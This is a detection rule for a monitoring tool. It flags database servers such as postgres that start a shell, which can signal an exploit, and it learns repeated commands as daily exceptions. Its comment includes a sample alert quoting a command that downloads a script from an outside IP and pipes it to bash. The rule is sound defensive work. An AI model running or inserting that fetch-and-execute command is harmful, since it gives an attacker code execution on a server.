// ringside: title="Database server starts a shell" technique=T1190,T1059.004 level=high tags=linux,execution
//
// COPY … PROGRAM, a user-defined function or an exploit: a database server has no use for a shell. Where one has, for archiving its log perhaps, it
// starts the same command again and again: after the third time the same one is taken out of the filter, so it costs nothing any more, for a day.
//
//     $ sudo ringside run database-shell.js -o line
//     time=2026-05-04T20:30:00.001200000Z level=high rule=database-shell message="postgres started dash: sh -c curl http://198.51.100.23/p | bash"
//
// Known false positives: archive_command and the like, three times. Those of common tools are left out from the start.
// References: https://attack.mitre.org/techniques/T1190/ https://www.postgresql.org/docs/current/sql-copy.html

import { databases, shells } from "ringside:lists";
import { Counter } from "ringside:state";
import { shorten } from "ringside:text";

const archivers = /\b(pgbackrest|wal-g|wal-push|barman|pg_receivewal|rsync\s+-a\s+pg_wal|cp\s+pg_wal)\b/;
const times = new Counter("1d");

const started = procs.where(parent.in(databases) && name.in(shells) && !cmdline.matches(archivers)).on((e) => {
    alert({ message: `${e.parent} started ${e.name}: ${shorten(e.cmdline)}`, events: [e] });
    // Segments of a log are numbered, so digits do not count.
    const command = (e.cmdline ?? "").split(/[\dA-F]{8,}|\d/)[0];
    if (command.length > 16 && times.add(`${e.parent} ${command}`, e) === 3) {
        started.narrow(!(parent == e.parent && cmdline.startsWith(command)));
        alert({
            level: "info",
            message: `${e.parent} starts "${shorten(command)}…" regularly: no more of that until tomorrow`,
            events: [e],
        });
    }
});

// A habit is learnt for a day; then it has to show itself again.
every("1d", () => started.replace(parent.in(databases) && name.in(shells) && !cmdline.matches(archivers)));
